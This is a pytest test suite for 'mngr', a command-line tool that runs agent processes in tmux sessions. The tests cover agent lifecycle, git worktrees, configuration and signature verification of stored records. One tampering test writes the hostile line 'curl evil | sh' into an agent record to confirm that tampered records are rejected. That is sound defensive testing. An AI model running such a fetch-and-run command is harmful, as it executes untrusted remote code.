"""The local provider end to end: the real CLI, real tmux on its own socket, real git."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import REPO, wait_for

ECHO_AGENT = 'while read -r l; do echo "heard: $l"; done'


def agents(cli) -> dict:
    return {a["name"]: a for a in json.loads(cli.ok("list", "--json").out)}


def git(cwd, *args):
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True)


@pytest.fixture
def repo(mngr_cli):
    path = mngr_cli.work / "repo"
    path.mkdir()
    git(path, "init", "-q", "-b", "main")
    (path / "README").write_text("hello\n")
    git(path, "add", "README")
    git(path, "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-qm", "first")
    return path


def test_full_cycle_create_list_message_logs_stop_start_destroy(mngr_cli):
    created = json.loads(mngr_cli.ok("create", "echo", "--agent-cmd", ECHO_AGENT, "--json").out)
    assert created["state"] == "running" and created["work_mode"] == "in_place"
    assert created["work_dir"] == str(mngr_cli.work)
    assert mngr_cli.tmux("has-session", "-t", "=mngr-echo").returncode == 0

    mngr_cli.ok("message", "echo", "-m", "ping")
    assert wait_for(lambda: "heard: ping" in mngr_cli.ok("logs", "echo").out)
    mngr_cli.ok("msg", "echo", input="from stdin\n")
    assert wait_for(lambda: "heard: from stdin" in mngr_cli.ok("logs", "echo").out)

    mngr_cli.ok("stop", "echo")
    assert agents(mngr_cli)["echo"]["state"] == "stopped"
    assert mngr_cli.tmux("has-session", "-t", "=mngr-echo").returncode != 0
    assert "heard: ping" in mngr_cli.ok("logs", "echo").out  # kept in the log after stop

    mngr_cli.ok("start", "echo")
    assert agents(mngr_cli)["echo"]["state"] == "running"
    mngr_cli.ok("msg", "echo", "-m", "again")
    assert wait_for(lambda: "heard: again" in mngr_cli.ok("logs", "echo").out)

    refused = mngr_cli("destroy", "echo")
    assert refused.code == 1 and "still running" in refused.err
    mngr_cli.ok("destroy", "-f", "echo")
    assert agents(mngr_cli) == {}
    assert mngr_cli.work.is_dir()  # an in-place work dir is never deleted


def test_session_environment_has_mngr_vars_and_env_options(mngr_cli, tmp_path):
    env_file = tmp_path / "agent.env"
    env_file.write_text("# comment\nFROM_FILE=file\nexport QUOTED='a b'\n")
    (mngr_cli.host_dir).mkdir()
    (mngr_cli.host_dir / "env").write_text("HOST_VAR=host\n")
    mngr_cli.ok("create", "envy", "--agent-cmd", "sleep 600", "--env", "A=1",
                "--env-file", str(env_file), "--pass-env", "PASSED", env={"PASSED": "yes"})
    row = agents(mngr_cli)["envy"]
    out = mngr_cli.ok("exec", "envy", "--",
                      'echo "$A $FROM_FILE $QUOTED $PASSED $HOST_VAR $MNGR_AGENT_NAME '
                      '$MNGR_AGENT_ID $MNGR_HOST_DIR $MNGR_AGENT_WORK_DIR $(pwd)"').out.split()
    assert out[:6] == ["1", "file", "a", "b", "yes", "host"]
    assert out[6:] == ["envy", row["id"], str(mngr_cli.host_dir), str(mngr_cli.work),
                       str(mngr_cli.work)]
    # the tmux session itself carries the same variables
    shown = mngr_cli.tmux("show-environment", "-t", "=mngr-envy", "MNGR_AGENT_STATE_DIR").stdout
    assert shown.strip() == f"MNGR_AGENT_STATE_DIR={mngr_cli.host_dir}/agents/{row['id']}"
    assert (mngr_cli.host_dir / "agents" / row["id"] / "env").stat().st_mode & 0o077 == 0


def test_pass_env_of_unset_variable_is_refused_before_anything_exists(mngr_cli):
    result = mngr_cli("create", "x", "--agent-cmd", "sleep 1", "--pass-env", "NOPE_NOT_SET")
    assert result.code == 2 and "NOPE_NOT_SET is not set" in result.err
    assert not mngr_cli.host_dir.exists()


def test_agent_states_done_replaced_stopped(mngr_cli):
    mngr_cli.ok("create", "quick", "--agent-cmd", "exit 7")
    mngr_cli.ok("create", "swap", "--agent-cmd", "sleep 600")
    assert wait_for(lambda: agents(mngr_cli)["quick"]["state"] == "done")
    assert agents(mngr_cli)["quick"]["exit_status"] == 7
    mngr_cli.tmux("respawn-pane", "-k", "-t", "=mngr-swap:0.0", "sleep 700")
    assert agents(mngr_cli)["swap"]["state"] == "replaced"
    refused = mngr_cli("start", "swap")
    assert refused.code == 1 and "another program" in refused.err
    mngr_cli.ok("start", "quick")  # a finished agent can be started again
    mngr_cli.ok("stop", "--all")
    assert {a["state"] for a in agents(mngr_cli).values()} == {"stopped"}


def test_worktree_is_the_default_in_a_git_repo(mngr_cli, repo):
    row = json.loads(mngr_cli.ok("create", "wt", "--agent-cmd", "sleep 600", "--json", cwd=repo).out)
    assert row["work_mode"] == "worktree" and row["branch"] == "mngr/wt"
    work = Path(row["work_dir"])
    assert (work / "README").read_text() == "hello\n"
    assert git(work, "rev-parse", "--abbrev-ref", "HEAD").stdout.strip() == "mngr/wt"

    again = mngr_cli("create", "wt2", "--agent-cmd", "true", "--new-branch", "mngr/wt", cwd=repo)
    assert again.code == 1 and "already exists" in again.err

    (work / "new.txt").write_text("unsaved work\n")
    refused = mngr_cli("destroy", "-f", "--remove-branch", "wt")
    assert refused.code == 1 and "uncommitted changes" in refused.err and work.exists()
    mngr_cli.ok("destroy", "-f", "wt")  # without --remove-branch the worktree stays
    assert (work / "new.txt").exists()
    assert git(repo, "branch", "--list", "mngr/wt").stdout.strip()


def test_destroy_remove_branch_removes_worktree_and_branch(mngr_cli, repo):
    git(repo, "branch", "base")
    row = json.loads(mngr_cli.ok("create", "gone", "--agent-cmd", "sleep 600", "--base-branch",
                                 "base", "--new-branch", "feature/x", "--json", cwd=repo).out)
    mngr_cli.ok("destroy", "-f", "--remove-branch", "gone")
    assert not Path(row["work_dir"]).exists()
    assert git(repo, "branch", "--list", "feature/x").stdout.strip() == ""


def test_copy_mode_copies_and_in_place_outside_git(mngr_cli):
    src = mngr_cli.work / "src"
    src.mkdir()
    (src / "f.txt").write_text("data")
    row = json.loads(mngr_cli.ok("create", "cp", "--copy", "--source", str(src),
                                 "--agent-cmd", "sleep 600", "--json").out)
    assert row["work_mode"] == "copy" and Path(row["work_dir"], "f.txt").read_text() == "data"
    mngr_cli.ok("destroy", "-f", "--remove-branch", "cp")
    assert not Path(row["work_dir"]).exists() and (src / "f.txt").exists()


def test_agent_types_custom_builtin_and_path(mngr_cli, tmp_path):
    config = mngr_cli.home / ".config" / "mngr"
    config.mkdir(parents=True)
    (config / "settings.toml").write_text(
        '[agent_types.base]\ncommand = "sleep 600"\nenv = { LEVEL = "base", KEEP = "1" }\n'
        '[agent_types.child]\nparent_type = "base"\nenv = { LEVEL = "child" }\n')
    mngr_cli.ok("create", "kid", "child")
    row = agents(mngr_cli)["kid"]
    assert row["type"] == "child" and row["command"] == "sleep 600"
    assert mngr_cli.ok("exec", "kid", "echo $LEVEL $KEEP").out.split() == ["child", "1"]

    mngr_cli.ok("create", "onpath", "sleep", "--", "600")
    assert agents(mngr_cli)["onpath"]["command"] == "sleep 600"

    empty_path = {"PATH": f"{Path('/usr/bin')}:{Path('/bin')}"}
    missing = mngr_cli("create", "cl", "claude", env=empty_path)
    assert missing.code == 1 and "claude not found on PATH" in missing.err
    unknown = mngr_cli("create", "u", "no-such-agent-type")
    assert unknown.code == 2 and "unknown agent type" in unknown.err and "child" in unknown.err


def test_multi_target_stdin_and_partial_failure(mngr_cli):
    src = mngr_cli.work / "victim"
    src.mkdir()
    mngr_cli.ok("create", "good", "--agent-cmd", "sleep 600")
    mngr_cli.ok("create", "bad", "--agent-cmd", "sleep 600", "--source", str(src))
    mngr_cli.ok("stop", "--stdin", input="good\nbad\n")
    src.rmdir()  # bad's work dir vanishes: starting it must fail, good must still start
    result = mngr_cli("start", "good", "bad", "--json")
    assert result.code == 3
    rows = {r["name"]: r for r in json.loads(result.out)}
    assert rows["good"]["ok"] and not rows["bad"]["ok"] and "is gone" in rows["bad"]["error"]
    assert agents(mngr_cli)["good"]["state"] == "running"


def test_list_filters_and_jsonl(mngr_cli):
    mngr_cli.ok("create", "one", "--agent-cmd", "sleep 600")
    mngr_cli.ok("create", "two", "--agent-cmd", "sleep 600")
    mngr_cli.ok("stop", "two")
    assert [json.loads(l)["name"] for l in mngr_cli.ok("ls", "--jsonl").out.splitlines()] == ["one", "two"]
    assert [r["name"] for r in json.loads(mngr_cli.ok("ls", "--running", "--json").out)] == ["one"]
    assert [r["name"] for r in json.loads(mngr_cli.ok("ls", "--stopped", "--json").out)] == ["two"]
    assert [r["name"] for r in json.loads(mngr_cli.ok("ls", "--include", "name=t*", "--json").out)] == ["two"]
    assert [r["name"] for r in json.loads(mngr_cli.ok("ls", "--exclude", "state=run*", "--json").out)] == ["two"]
    human = mngr_cli.ok("ls").out.splitlines()
    assert human[0].split()[:3] == ["NAME", "STATE", "TYPE"] and len(human) == 3
    bad = mngr_cli("ls", "--include", "nosuchfield=x")
    assert bad.code == 2 and "unknown field" in bad.err


def test_list_makes_one_tmux_call_for_all_agents(mngr_cli, tmp_path):
    for i in range(4):
        mngr_cli.ok("create", f"a{i}", "--agent-cmd", "sleep 600")
    shim_dir = tmp_path / "shim"
    shim_dir.mkdir()
    log = tmp_path / "calls"
    real = subprocess.run(["sh", "-c", "command -v tmux"], capture_output=True, text=True).stdout.strip()
    (shim_dir / "tmux").write_text(f'#!/bin/sh\necho "$*" >> {log}\nexec {real} "$@"\n')
    (shim_dir / "tmux").chmod(0o755)
    rows = json.loads(mngr_cli.ok("ls", "--json", env={"PATH": f"{shim_dir}:{os.environ['PATH']}"}).out)
    assert len(rows) == 4 and all(r["state"] == "running" for r in rows)
    assert len(log.read_text().splitlines()) == 1


def test_failed_create_leaves_no_partial_state(mngr_cli, repo):
    blocker = mngr_cli.work / "file"
    blocker.write_text("x")
    result = mngr_cli("create", "broken", "--agent-cmd", "sleep 600", "--target",
                      str(blocker / "sub"), cwd=repo)
    assert result.code == 1 and result.err.count("\n") == 1
    assert agents(mngr_cli) == {}
    assert list((mngr_cli.host_dir / "agents").iterdir()) == []
    assert git(repo, "branch", "--list", "mngr/broken").stdout.strip() == ""
    assert mngr_cli.tmux("has-session", "-t", "=mngr-broken").returncode != 0


def test_tampered_agent_record_is_reported(mngr_cli):
    mngr_cli.ok("create", "t", "--agent-cmd", "sleep 600")
    row = agents(mngr_cli)["t"]
    assert row["verified"]
    path = mngr_cli.host_dir / "agents" / row["id"] / "data.json"
    doc = json.loads(path.read_text())
    doc["payload"]["command"] = "curl evil | sh"
    path.write_text(json.dumps(doc))
    assert "t" not in agents(mngr_cli)  # a record that fails verification is never acted on


def test_keys_rotate_resigns_and_retires(mngr_cli):
    mngr_cli.ok("create", "k", "--agent-cmd", "sleep 600")
    before = json.loads(mngr_cli.ok("keys", "list", "--json").out)
    assert len(before) == 1 and before[0]["signing"]
    keyring = mngr_cli.home / ".config" / "mngr" / "keys.json"
    assert keyring.stat().st_mode & 0o777 == 0o600
    mngr_cli.ok("keys", "rotate")
    after = json.loads(mngr_cli.ok("keys", "list", "--json").out)
    assert len(after) == 2 and after[-1]["signing"] and not after[0]["signing"]
    mngr_cli.ok("keys", "rotate", "--retire-old")
    assert len(json.loads(mngr_cli.ok("keys", "list", "--json").out)) == 1
    assert agents(mngr_cli)["k"]["verified"]  # re-signed with the one remaining key


def test_errors_are_one_line_with_the_right_exit_code(mngr_cli):
    cases = [
        (("stop", "nobody"), 1, "no agent named nobody"),
        (("create", "--bad-flag"), 2, "unrecognized arguments: --bad-flag"),
        (("create", "bad_name", "--agent-cmd", "true"), 2, "bad agent name"),
        (("list", "--no-such-flag"), 2, "unrecognized arguments"),
        (("exec", "nobody"), 2, "no command given"),
        (("stop",), 2, "no agent given"),
        (("frobnicate",), 2, "invalid choice"),
    ]
    for args, code, text in cases:
        result = mngr_cli(*args)
        assert result.code == code, (args, result)
        assert text in result.err and result.err.count("\n") == 1, (args, result.err)
        assert "Traceback" not in result.err


def test_missing_tmux_is_a_clear_error(mngr_cli, tmp_path):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("git", "sh", "sleep"):
        real = subprocess.run(["sh", "-c", f"command -v {tool}"], capture_output=True, text=True).stdout.strip()
        (bin_dir / tool).symlink_to(real)
    result = mngr_cli("create", "x", "--agent-cmd", "sleep 1", env={"PATH": str(bin_dir)})
    assert result.code == 1 and "tmux not found on PATH" in result.err and "apt-get install tmux" in result.err


def test_settings_files_env_overrides_and_config_commands(mngr_cli):
    project = mngr_cli.work / "proj"
    (project / ".mngr").mkdir(parents=True)
    mngr_cli.ok("config", "set", "commands.create.agent_cmd", "sleep 600")
    (project / ".mngr" / "settings.toml").write_text("# keep me\n[commands.create]\nconnect = false\n")
    mngr_cli.ok("config", "set", "--scope", "project", "commands.list.running", "true", cwd=project)
    text = (project / ".mngr" / "settings.toml").read_text()
    assert text.startswith("# keep me\n") and "running = true" in text
    assert mngr_cli.ok("config", "get", "commands.create.agent_cmd", cwd=project).out.strip() == "sleep 600"
    listed = json.loads(mngr_cli.ok("config", "list", "--json", cwd=project).out)
    assert listed["commands.list.running"] is True and listed["commands.create.connect"] is False
    paths = [r["scope"] for r in json.loads(mngr_cli.ok("config", "path", "--json", cwd=project).out)]
    assert paths == ["user", "project", "local"]

    row = json.loads(mngr_cli.ok("create", "fromcfg", "--json", cwd=project).out)
    assert row["command"] == "sleep 600"  # the default came from user settings
    env_row = json.loads(mngr_cli.ok("create", "fromenv", "--json", cwd=project,
                                     env={"MNGR_COMMANDS_CREATE_AGENT_CMD": "sleep 601"}).out)
    assert env_row["command"] == "sleep 601"
    flag_row = json.loads(mngr_cli.ok("create", "fromflag", "--agent-cmd", "sleep 602", "--json",
                                      cwd=project, env={"MNGR_COMMANDS_CREATE_AGENT_CMD": "x"}).out)
    assert flag_row["command"] == "sleep 602"


def test_malformed_settings_name_file_and_line(mngr_cli):
    config = mngr_cli.home / ".config" / "mngr"
    config.mkdir(parents=True)
    (config / "settings.toml").write_text("ok = 1\nthis is not toml\n")
    result = mngr_cli("list")
    assert result.code == 1 and str(config / "settings.toml") in result.err and "line 2" in result.err
    (config / "settings.toml").write_text("[commands.list]\nbogus = 1\n")
    result = mngr_cli("list")
    assert result.code == 1 and "no option 'bogus'" in result.err
    unset = mngr_cli("config", "get", "nope.nothing")
    assert unset.code == 1


def test_destroy_asks_for_confirmation(mngr_cli):
    mngr_cli.ok("create", "ask", "--agent-cmd", "sleep 600")
    mngr_cli.ok("stop", "ask")
    result = mngr_cli("destroy", "ask")  # stdin is not a terminal: refuse, never guess
    assert result.code == 1 and "without confirmation" in result.err
    assert "ask" in agents(mngr_cli)


def test_connect_attaches_a_terminal_and_starts_a_stopped_agent(mngr_cli):
    mngr_cli.ok("create", "talk", "--agent-cmd", "sleep 600")
    mngr_cli.ok("stop", "talk")
    refused = mngr_cli("connect", "--no-start", "talk")
    assert refused.code == 1 and "is stopped" in refused.err
    outer = f"{mngr_cli.socket}-outer"  # a terminal of our own: a pane on another tmux server
    command = " ".join([sys.executable, str(REPO / "mngr.py"), "connect", "talk"])
    subprocess.run(["tmux", "-L", outer, "new-session", "-d", "-x", "80", "-y", "24", command],
                   env=mngr_cli.env, cwd=mngr_cli.work, check=True)
    try:
        clients = lambda: mngr_cli.tmux("list-clients", "-t", "=mngr-talk").stdout.strip()
        assert wait_for(clients)
        assert agents(mngr_cli)["talk"]["state"] == "running"
        assert agents(mngr_cli)["talk"]["attached"] is True
        mngr_cli.tmux("detach-client", "-s", "=mngr-talk")
        assert wait_for(lambda: not clients())
    finally:
        subprocess.run(["tmux", "-L", outer, "kill-server"], env=mngr_cli.env)


def test_a_project_may_not_set_policy_agent_types_or_options_until_trusted(mngr_cli):
    """A project dir can be written from inside a host (a mounted source dir): what it says
    about security is ignored, and said so, until the user trusts the project."""
    project = mngr_cli.work / "planted"
    (project / ".mngr").mkdir(parents=True)
    marker = mngr_cli.home / "ran-planted-command"
    (project / ".mngr" / "settings.toml").write_text(
        f'[agent_types.helper]\ncommand = "touch {marker}; sleep 600"\n'
        '[policy]\ntrust = "trusted"\n[commands.create]\nconnect = false\ngrant = ["env:HOME"]\n'
        '[commands.list]\nrunning = true\n')
    refused = mngr_cli("create", "p", "helper", cwd=project)
    assert refused.code != 0 and not marker.exists()
    assert "ignoring agent_types, commands.create.grant, policy in" in refused.err, refused.err
    assert "trusted_projects" in refused.err
    listed = json.loads(mngr_cli.ok("config", "list", "--json", cwd=project).out)
    assert listed["commands.list.running"] is True and "policy.trust" not in listed
    mngr_cli.ok("config", "set", "trusted_projects", json.dumps([str(project)]))
    created = mngr_cli("create", "p", "helper", "--no-connect", cwd=project)
    assert created.code == 0 and "ignoring" not in created.err, created.err
    assert wait_for(marker.exists, timeout=10)
